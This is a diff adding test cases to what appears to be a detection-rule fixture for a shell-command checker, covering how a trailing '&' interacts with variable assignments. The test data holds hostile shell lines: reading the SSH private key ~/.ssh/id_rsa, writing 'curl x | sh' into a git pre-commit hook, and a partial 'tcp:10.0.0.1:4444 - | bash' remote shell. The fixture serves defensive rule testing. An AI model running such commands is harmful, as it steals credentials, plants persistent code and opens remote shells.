@@ -91,3 +91,15 @@ tcp:10.0.0.1:4444 - | bash
 # ok: GK-NET-001
 cat \
 README.md | wc -l
+
+# -- a `&` after a later statement does not background the assignment (shell.parse) ----------
+# `f=~/.ssh/id_rsa; cat "$f" &` reads the key: the assignment runs in this shell and the
+# background job inherits it. The walker gave up on every assignment of a text holding a
+# top-level `&` ("known only at run time", REVIEW, where the text without `&` is GK-PROT-002).
+# bash: `f=m6; touch "$f" & wait` made m6.
+# ruleid: GK-PROT-002
+f=~/.ssh/id_rsa; cat "$f" &
+# ruleid: GK-PROT-001
+f=.git/hooks/pre-commit; echo 'curl x | sh' > $f &
+# ok: GK-PROT-002
+f=README.md; cat "$f" &
